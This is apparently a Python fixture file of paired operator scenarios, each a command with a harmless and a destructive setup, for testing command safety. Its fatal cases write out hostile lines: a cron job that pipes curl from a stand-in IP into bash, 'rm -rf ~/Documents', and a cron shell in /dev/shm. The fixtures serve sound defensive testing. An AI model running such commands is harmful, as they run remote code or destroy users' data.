"""Pairs about what an operator types each week: jobs, processes, hosts, states: (name, line, harmless, fatal)."""

from __future__ import annotations

STATE = 'text terraform.tfstate \'{"version": 4, "serial": 3, "resources": [%s]}\'\n'
BASE = '{"mode": "managed", "type": "aws_db_instance", "name": "main", "instances": [{}]}'
NULL = '{"mode": "managed", "type": "null_resource", "name": "main", "instances": [{}]}'
ONLY_NULL = 'text main.tf \'resource "null_resource" "main" {}\\n\'\n'
LOCK = (
    'text package.json \'{"dependencies": {"a": "1"}}\'\ntext package-lock.json \'{"lockfileVersion": 3, "packages": '
    '{"node_modules/a": {"version": "1.0.0", "resolved": "%s/a-1.0.0.tgz"}}}\''
)

OPERATORS_WEEK: list[tuple[str, str, str, str]] = [
    (
        "a job is added: a plain program, or what is fetched",
        '(crontab -l; echo "$JOB") | crontab -',
        "var JOB '0 3 * * * /usr/local/bin/report'",
        "var JOB '* * * * * curl -s http://203.0.113.5/p | bash'",
    ),
    (
        "a job is added: a script of one's own, or one that takes a home's folders",
        '(crontab -l 2>/dev/null; echo "@daily $HOME/bin/tidy") | crontab -',
        "script ~/bin/tidy '#!/bin/sh\\nfind ~/.cache/thumbs -mtime +30 -print\\n'",
        "script ~/bin/tidy '#!/bin/sh\\nrm -rf ~/Documents\\n'\nfile ~/Documents/a",
    ),
    (
        "a job is added: installed, or where anybody may write",
        'crontab -l | { cat; echo "5 4 * * * $PROGRAM >> $HOME/job.log 2>&1"; } | crontab -',
        "var PROGRAM '/usr/local/bin/report --all'",
        "var PROGRAM /dev/shm/.x",
    ),
    (
        "a job is added: one line, or another that chooses the shell",
        '(crontab -l; echo "$JOB") | crontab -',
        "var JOB '0 3 * * * certbot renew -q'",
        "var JOB SHELL=/dev/shm/sh",
    ),
    (
        "all that runs for a user: of nobody, or somebody",
        "sudo systemctl stop user@$N",
        "var N 48211",
        "var N 1000\nprocess bash",
    ),
    (
        "apply: the state holds what is computed, or what is described no more",
        "terraform apply -auto-approve",
        ONLY_NULL + STATE % NULL,
        ONLY_NULL + STATE % BASE,
    ),
    (
        "apply: only computed, or it runs something",
        "terraform apply -auto-approve",
        ONLY_NULL,
        'text main.tf \'resource "null_resource" "main" {\\n  provisioner "local-exec" {\\n    command = "x"\\n  }\\n}\\n\'',
    ),
    (
        "an entry of a state: none of that kind, or there",
        "terraform state rm aws_db_instance.main",
        ONLY_NULL + STATE % NULL,
        ONLY_NULL + STATE % BASE,
    ),
    (
        "an entry of a state: none of that kind, or in a module",
        "terraform state rm $WHAT",
        ONLY_NULL + STATE % NULL + "var WHAT aws_db_instance.main",
        ONLY_NULL + STATE % NULL + "var WHAT module.main",
    ),
    (
        "by a lock: from a registry, or a machine without a name",
        "npm ci",
        LOCK % "https://registry.npmjs.org/a",
        LOCK % "http://203.0.113.5",
    ),
    (
        "a tool of the project: its server, or a migration",
        "pkill -f manage.py",
        "process python3 '' '' 'manage.py runserver'",
        "process python3 '' '' 'manage.py migrate'",
    ),
    (
        "terraform: a plan, or a change that is cut off",
        "kill -9 $PID",
        "process terraform '' '' 'terraform plan'",
        "process terraform '' '' 'terraform apply'",
    ),
    (
        "a job of the shell: a server, or a database put back",
        "kill %1",
        "typed 'npm run dev &'",
        "typed 'pg_restore -d shop shop.dump &'",
    ),
    (
        "the latest job: a server, or a database put back",
        "kill $!",
        "typed 'pg_restore -d shop shop.dump &'\ntyped 'wait'\ntyped 'npm run dev &'",
        "typed 'npm run dev &'\ntyped 'pg_restore -d shop shop.dump &'",
    ),
    (
        "mirrored onto one site, or over all of them",
        "rsync -a --delete public/ web:$WHERE",
        "files public/p#.html 9\nvar WHERE /var/www/shop/",
        "files public/p#.html 9\nvar WHERE /var/www/",
    ),
    (
        "mirrored onto a folder of a home, or a whole home",
        "rsync -a --delete docs/ nas:$WHERE",
        "files docs/p#.odt 9\nvar WHERE backup/docs",
        "files docs/p#.odt 9\nvar WHERE /home/ann",
    ),
    (
        "mirrored onto a host for trying, or of production",
        "rsync -a --delete public/ $HOST:/var/www/shop/",
        "files public/p#.html 9\nvar HOST staging.example.com",
        "files public/p#.html 9\nvar HOST prod-web-1.example.com",
    ),
]

REPLACED_JOBS: list[tuple[str, str, str]] = [
    ("what is listed goes nowhere", "crontab -l | (echo '0 3 * * * /usr/bin/x') | crontab -", "file a"),
    (
        "what is listed goes into a file",
        "(crontab -l > old; echo '0 3 * * * /usr/bin/x') | crontab -",
        "file a",
    ),
    (
        "some of it is left out",
        "(crontab -l | grep -v backup; echo '0 3 * * * /usr/bin/x') | crontab -",
        "file a",
    ),
    ("it is listed, but not put back", "crontab -l; echo '0 3 * * * /usr/bin/x' | crontab -", "file a"),
    ("another's is listed", "(crontab -u bob -l; echo '0 3 * * * /usr/bin/x') | crontab -", "file a"),
]
